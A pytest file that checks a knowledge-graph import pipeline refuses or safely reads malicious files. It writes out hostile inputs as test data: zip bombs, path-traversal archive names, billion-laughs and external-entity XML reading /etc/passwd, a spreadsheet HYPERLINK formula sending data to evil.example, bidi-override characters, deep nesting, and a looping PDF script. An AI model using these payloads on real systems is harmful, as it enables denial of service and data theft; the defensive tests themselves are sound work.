"""Files made to harm: each is refused with its reason, or read harmlessly, within the limits."""

from __future__ import annotations

import struct
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from pyoxigraph import Literal
from tests.sources.conftest import ReadSource

from kgqual import pipeline
from kgqual.errors import KgqualError
from kgqual.limits import DEFAULT, Limits
from kgqual.sources.adding import Options
from kgqual.sources.kinds.esco import rules

GIB = 1 << 30
SOON = 30.0
"""Seconds in which every one of these files must be done with, on a slow machine."""
HEADER = "code,title_ru\n"
OCCUPATIONS = (
    "conceptType,conceptUri,iscoGroup,preferredLabel,altLabels,description\n"
    "Occupation,http://data.europa.eu/esco/occupation/1,7512,{label},,{text}\n"
)
RDF_XML = (
    '<?xml version="1.0"?>\n{doctype}<rdf:RDF xmlns="https://example.org/"'
    ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="https://example.org/a"><p>{text}</p></rdf:Description></rdf:RDF>'
)


class Refuses:
    """Adds a file as users do, and checks that nothing of it stays behind."""

    def __init__(self, data: Path) -> None:
        self._data = data

    def __call__(
        self, kind: str, path: Path, reason: str, limits: Limits = DEFAULT, graph: str = ""
    ) -> KgqualError:
        began = time.monotonic()
        options = Options(version="1", graph=graph)
        with pytest.raises(KgqualError) as refused:
            pipeline.add(self._data, kind, [path], options, limits=limits)
        assert time.monotonic() - began < SOON
        error = refused.value
        said = "\n".join([str(error), *map(str, getattr(error, "problems", ()))])
        assert reason in said
        assert len(said) < 10_000
        left = [p.name for p in self._data.rglob("*") if p.is_file() and p.name != "lock"]
        assert left == []
        return error


@pytest.fixture
def refuses(tmp_path: Path) -> Refuses:
    return Refuses(tmp_path / "data")


def written(path: Path, content: str | bytes) -> Path:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def zipped(path: Path, **members: Iterator[bytes] | bytes) -> Path:
    """Write a zip of members whose content may be long; ``__`` in a name stands for a dot."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            with archive.open(name.replace("__", "."), "w", force_zip64=True) as member:
                for part in [content] if isinstance(content, bytes) else content:
                    member.write(part)
    return path


def lying(path: Path, size: int) -> Path:
    """Write into the directory of a zip that its only member unpacks to ``size`` bytes."""
    content = bytearray(path.read_bytes())
    directory = content.rindex(b"PK\x01\x02")
    struct.pack_into("<L", content, directory + 24, size)
    return written(path, bytes(content))


def zeros(length: int) -> Iterator[bytes]:
    block = bytes(1 << 20)
    return (block for _ in range(length // len(block)))


class Sheet:
    """An XLSX workbook of one sheet, written by hand so that it may be a lie."""

    TYPES = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    RELATION = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Target="{}" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/{}"/></Relationships>'
    )
    BOOK = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="groups" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    HEADER = '<row r="1">{}{}</row>'

    @staticmethod
    def cell(place: str, text: str) -> str:
        return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'

    @classmethod
    def write(cls, path: Path, rows: Iterator[bytes] | bytes) -> Path:
        header = cls.HEADER.format(cls.cell("A1", "code"), cls.cell("B1", "title_ru"))

        def sheet() -> Iterator[bytes]:
            yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            yield b"<sheetData>" + header.encode()
            yield from [rows] if isinstance(rows, bytes) else rows
            yield b"</sheetData></worksheet>"

        parts: dict[str, Iterator[bytes] | bytes] = {
            "[Content_Types]__xml": cls.TYPES.encode(),
            "_rels/__rels": cls.RELATION.format("xl/workbook.xml", "officeDocument").encode(),
            "xl/workbook__xml": cls.BOOK.encode(),
            "xl/_rels/workbook__xml__rels": cls.RELATION.format(
                "worksheets/sheet1.xml", "worksheet"
            ).encode(),
            "xl/worksheets/sheet1__xml": sheet(),
        }
        return zipped(path, **parts)


class TestArchives:
    """What :mod:`tests.sources.test_archives` shows piece by piece, as users would meet it."""

    @pytest.mark.parametrize(
        ("kind", "name", "member"),
        [
            ("esco", "ESCO v1.zip", "occupations_en__csv"),
            ("rdf", "data.zip", "data__nt"),
            ("onet", "crosswalk.zip", "table__csv"),
            ("elm", "elm.zip", "loq__xml"),
            ("nco", "groups.xlsx", "xl/workbook__xml"),
        ],
    )
    def test_three_gigabytes_in_a_small_file(
        self, tmp_path: Path, refuses: Refuses, kind: str, name: str, member: str
    ) -> None:
        """The directory tells the truth: 100 MB, packed as the 3 GB would be."""
        bomb = zipped(tmp_path / name, **{member: zeros(100 << 20)})
        assert bomb.stat().st_size < 1 << 20
        refuses(kind, bomb, "unpacks to 104,857,600 bytes from")
        refuses(kind, lying(bomb, 3 * GIB), "unpacks to 3,221,225,472 bytes from")

    def test_a_bomb_that_lies_about_its_size(self, tmp_path: Path, refuses: Refuses) -> None:
        """No more is unpacked than the directory says, and that is not what the file is."""
        bomb = zipped(tmp_path / "data.zip", data__nt=zeros(100 << 20))
        refuses("rdf", lying(bomb, 1000), "data.zip/data.nt")

    def test_a_zip_in_a_zip(self, tmp_path: Path, refuses: Refuses) -> None:
        inner = zipped(tmp_path / "inner.zip", data__nt=b"")
        outer = zipped(tmp_path / "outer.zip", inner__zip=inner.read_bytes())
        refuses("rdf", outer, "is an archive inside an archive")

    @pytest.mark.parametrize("name", ["../../data__nt", "/etc/data__nt", "C:\\data__nt"])
    def test_names_that_lead_elsewhere(self, tmp_path: Path, refuses: Refuses, name: str) -> None:
        refuses("rdf", zipped(tmp_path / "data.zip", **{name: b""}), "leads out of the archive")

    def test_many_members(self, tmp_path: Path, refuses: Refuses) -> None:
        many = {f"{number}__nt": b"" for number in range(1_001)}
        refuses("rdf", zipped(tmp_path / "data.zip", **many), "1,001 files inside; 1,000 at most")


class TestTables:
    def test_one_line_that_does_not_end(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "groups.csv", HEADER)
        with path.open("r+b") as file:
            file.truncate(GIB >> 2)
        limits = Limits(row_characters=1 << 20)
        refuses("nco", path, "longer than 1,048,576 characters", limits)

    def test_a_file_beyond_the_limit_is_not_even_read(
        self, tmp_path: Path, refuses: Refuses
    ) -> None:
        path = written(tmp_path / "groups.csv", HEADER)
        with path.open("r+b") as file:
            file.truncate(DEFAULT.file_bytes + 1)
        refuses("nco", path, "is longer than 4,294,967,296 bytes")

    def test_a_quotation_mark_that_never_closes(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "groups.csv", HEADER + '2,"' + "word\n" * 500_000)
        limits = Limits(row_characters=1 << 20)
        refuses("nco", path, "row 2: longer than 1,048,576 characters", limits)

    def test_rows_without_end(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "groups.csv", HEADER + "\n" * 1_000)
        refuses("nco", path, "more than 500 rows", Limits(rows=500))

    def test_a_hundred_thousand_columns(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "groups.csv", "code," * 100_000 + "\n")
        refuses("nco", path, "row 1: 100,001 cells; 1,000 at most")

    def test_headers_like_books(self, tmp_path: Path, refuses: Refuses) -> None:
        header = ",".join(f"{'x' * 10_000}{number}" for number in range(900))
        refuses("nco", written(tmp_path / "groups.csv", header + "\n"), "and 890 more")

    def test_a_cell_like_a_book(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "groups.csv", f"{HEADER}2,{'x' * 100_001}\n")
        refuses("nco", path, "has 100,001 characters; 100,000 at most")

    def test_a_wrong_code_like_a_book_is_quoted_in_part(
        self, tmp_path: Path, refuses: Refuses
    ) -> None:
        path = written(tmp_path / "groups.csv", f"{HEADER}{'9' * 90_000},a\n")
        refuses("nco", path, "99999…")

    @pytest.mark.parametrize(
        ("character", "named"),
        [
            ("\0", "U+0000"),
            ("\x1b", "U+001B"),
            ("\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
            ("\u2066", "U+2066 (LEFT-TO-RIGHT ISOLATE)"),
        ],
    )
    def test_characters_that_deceive(
        self, tmp_path: Path, refuses: Refuses, character: str, named: str
    ) -> None:
        path = written(tmp_path / "groups.csv", f"{HEADER}2,Сле{character}сарь\n")
        refuses("nco", path, f"column title_ru: contains the control character {named}")

    def test_lone_surrogates(self, tmp_path: Path, refuses: Refuses) -> None:
        text = f"{HEADER}2,\ud800\n".encode("utf-8", "surrogatepass")
        refuses("nco", written(tmp_path / "groups.csv", text), "row 2: not UTF-8")

    def test_a_formula_is_text(self, tmp_path: Path, read_source: ReadSource) -> None:
        formula = '=HYPERLINK("http://evil.example"&A1)'
        quoted = formula.replace('"', '""')
        triples, _ = read_source("nco", written(tmp_path / "groups.csv", f'{HEADER}2,"{quoted}"\n'))
        assert Literal(formula, language="ru") in {triple.object for triple in triples}


class TestWorkbooks:
    def test_many_thousand_empty_rows(self, tmp_path: Path, read_source: ReadSource) -> None:
        rows = (f'<row r="{n}"><c r="A{n}"/></row>'.encode() for n in range(3, 300_000))
        row = f'<row r="2">{Sheet.cell("A2", "2")}{Sheet.cell("B2", "Рабочий")}</row>'.encode()
        path = Sheet.write(tmp_path / "groups.xlsx", iter([row, *rows]))
        _, log = read_source("nco", path)
        assert (log.read, log.kept) == (1, 1)

    def test_one_cell_in_the_farthest_corner(self, tmp_path: Path, refuses: Refuses) -> None:
        """Its reader makes room for 17 thousand million cells."""
        far = f'<row r="1048576">{Sheet.cell("XFD1048576", "x")}</row>'.encode()
        refuses("nco", Sheet.write(tmp_path / "groups.xlsx", far), "more than 4,096 MiB of memory")

    def test_a_row_of_all_columns(self, tmp_path: Path, refuses: Refuses) -> None:
        wide = f'<row r="2">{Sheet.cell("XFD2", "x")}</row>'.encode()
        path = Sheet.write(tmp_path / "groups.xlsx", wide)
        refuses("nco", path, "2 rows and 16,384 columns; 2,000,000 and 1,000 at most")


class TestEsco:
    def test_deceiving_characters_are_removed_and_counted(
        self, tmp_path: Path, read_source: ReadSource
    ) -> None:
        table = OCCUPATIONS.format(label="ba\u202eker\u202c", text="\u2067bakes\x01")
        triples, log = read_source("esco", written(tmp_path / "occupations_en.csv", table))
        texts = {t.object.value for t in triples if isinstance(t.object, Literal)}
        assert {"baker", "bakes"} <= texts
        assert log.findings[f"occupations (en): {rules.CONTROL}"].count == 1

    def test_nul_characters(self, tmp_path: Path, refuses: Refuses) -> None:
        table = OCCUPATIONS.format(label="ba\0ker", text="")
        path = written(tmp_path / "occupations_en.csv", table)
        refuses("esco", path, "row 2: it contains NUL")

    def test_one_line_that_does_not_end(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "occupations_en.csv", OCCUPATIONS)
        with path.open("r+b") as file:
            file.truncate(GIB >> 2)
        refuses("esco", path, "longer than 16,777,216 characters")


class TestXml:
    LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>{}]>".format(
        "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(20))
    )
    QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'x' * 100_000}'>]>"
    EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    ELSEWHERE = "<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/x.dtd'>"

    @pytest.mark.parametrize("doctype", [LAUGHS, QUADRATIC, EXTERNAL, ELSEWHERE])
    @pytest.mark.parametrize("kind", ["rdf", "elm"])
    def test_a_document_type_declaration(
        self, tmp_path: Path, refuses: Refuses, kind: str, doctype: str
    ) -> None:
        text = RDF_XML.format(doctype=doctype, text="&a;" * 1_000)
        refuses(kind, written(tmp_path / "data.xml", text), "")

    def test_a_tower_of_elements(self, tmp_path: Path, refuses: Refuses) -> None:
        """The parser takes the square of the depth: it is stopped at its deadline."""
        text = RDF_XML.format(doctype="", text="").replace("</p>", "", 1).replace("<p>", "")
        tower = "<a><b>" * 60_000 + "</b></a>" * 60_000
        text = text.replace("</rdf:Description>", f"<p>{tower}</p></rdf:Description>")
        path = written(tmp_path / "data.rdf", text)
        refuses("rdf", path, "takes longer than 1 seconds", Limits(rdf_seconds=1))


class TestRdf:
    OBJECT = '{"@id":"urn:a","urn:p":'
    LISTS = '{"@list":['

    @pytest.mark.parametrize(
        ("name", "text"),
        [
            (
                "data.ttl",
                "<urn:a> <urn:b> {} 1 {} .".format(
                    "<<( <urn:a> <urn:b> " * 99_999, ")>> " * 99_999
                ),
            ),
            ("data.jsonld", f"{OBJECT * 60_000}1{'}' * 60_000}"),
            (
                "data.jsonld",
                '{"@id":"urn:a","urn:p":' + '{"@list":[' * 30_000 + "]}" * 30_000 + "}",
            ),
            ("data.jsonld", '{"a":' * 500_000),
        ],
        ids=["triple terms", "objects", "lists", "not closed"],
    )
    def test_deep_nesting_ends_only_the_process_that_reads(
        self, tmp_path: Path, refuses: Refuses, name: str, text: str
    ) -> None:
        refuses("rdf", written(tmp_path / name, text), "data.", Limits(rdf_seconds=1))

    def test_collections_a_hundred_thousand_deep(self, tmp_path: Path, refuses: Refuses) -> None:
        """Parsing them is quick; naming nodes that are all alike is what breaks down."""
        text = f"<urn:a> <urn:b> {'(' * 100_000}{')' * 100_000} ."
        path = written(tmp_path / "data.ttl", text)
        refuses("rdf", path, "give them IRIs", Limits(reading_seconds=2))

    def test_long_collections_are_read(self, tmp_path: Path, read_source: ReadSource) -> None:
        items = " ".join(map(str, range(10_000)))
        path = written(tmp_path / "data.ttl", f"<urn:a> <urn:b> ({items}) .")
        triples, _ = read_source("rdf", path)
        assert len(triples) == 20_001

    @pytest.mark.parametrize(
        ("name", "text"),
        [
            ("data.ttl", "<urn:a\\u0001> <urn:b> 1 ."),
            ("data.nt", "<urn:a\\u0001> <urn:b> <urn:c> .\n"),
            ("data.rdf", RDF_XML.format(doctype="", text="").replace("/a", "/a&#9;b")),
            ("data.jsonld", '{"@id": "urn:a\\u0001", "urn:b": 1}'),
            ("data.jsonld", '{"@id": "urn:a b", "urn:b": 1}'),
        ],
    )
    def test_an_iri_with_control_characters(
        self, tmp_path: Path, refuses: Refuses, name: str, text: str
    ) -> None:
        refuses("rdf", written(tmp_path / name, text), f"{name}")

    def test_an_iri_with_control_characters_names_no_graph(
        self, tmp_path: Path, refuses: Refuses
    ) -> None:
        path = written(tmp_path / "data.ttl", "<urn:a> <urn:b> <urn:c> .")
        refuses("rdf", path, "is not an IRI", graph="urn:a\x01")

    @pytest.mark.parametrize(
        ("name", "text"),
        [
            ("data.ttl", '<urn:a> <urn:b> "\\uD800" .'),
            ("data.nt", '<urn:a> <urn:b> "\\uDFFF" .\n'),
            ("data.jsonld", '{"@id": "urn:a", "urn:b": "\\ud800"}'),
            ("data.rdf", RDF_XML.format(doctype="", text="&#xD800;")),
        ],
    )
    def test_lone_surrogates(self, tmp_path: Path, refuses: Refuses, name: str, text: str) -> None:
        refuses("rdf", written(tmp_path / name, text), name)

    def test_overrides_in_literals_are_kept(self, tmp_path: Path, read_source: ReadSource) -> None:
        """RDF is kept as it is; pages isolate every text (``dir="auto"``)."""
        path = written(tmp_path / "data.ttl", '<urn:a> <urn:b> "\u202eab" .')
        triples, _ = read_source("rdf", path)
        assert {triple.object for triple in triples} == {Literal("\u202eab")}

    def test_a_prefix_that_multiplies(self, tmp_path: Path, refuses: Refuses) -> None:
        """A long namespace is short in Turtle and long in every N-Quad."""
        head = f"@prefix a: <urn:{'x' * 50_000}> .\n"
        text = head + "".join(f"a:{n} a:p a:o .\n" for n in range(2_000))
        path = written(tmp_path / "data.ttl", text)
        refuses("rdf", path, "longer than 10,000,000 bytes", Limits(rdf_bytes=10_000_000))


def pdf(path: Path, pages: int, catalog: str = "") -> Path:
    """Write a PDF of empty pages, with further entries in its catalogue."""
    kids = " ".join(["3 0 R"] * pages)
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    text, places = "%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(text))
        text += f"{number} 0 obj\n{content}\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    begin = len(text)
    text += f"xref\n0 4\n0000000000 65535 f \n{table}trailer\n<< /Size 4 /Root 1 0 R >>\n"
    return written(path, f"{text}startxref\n{begin}\n%%EOF\n")


class TestPdf:
    SCRIPT = "/OpenAction << /S /JavaScript /JS (while (true) {}) >>"

    def test_ten_thousand_pages(self, tmp_path: Path, refuses: Refuses) -> None:
        path = pdf(tmp_path / "WSC2026_TD17_en.pdf", 10_000)
        refuses("worldskills", path, "it has 10,000 pages; 500 at most")

    def test_scripts_are_not_run(self, tmp_path: Path, refuses: Refuses) -> None:
        path = pdf(tmp_path / "WSC2026_TD17_en.pdf", 1, self.SCRIPT)
        refuses("worldskills", path, "its pages hold no text")

    def test_noise(self, tmp_path: Path, refuses: Refuses) -> None:
        path = written(tmp_path / "WSC2026_TD17_en.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400)
        refuses("worldskills", path, "it is not a PDF, or a damaged one")
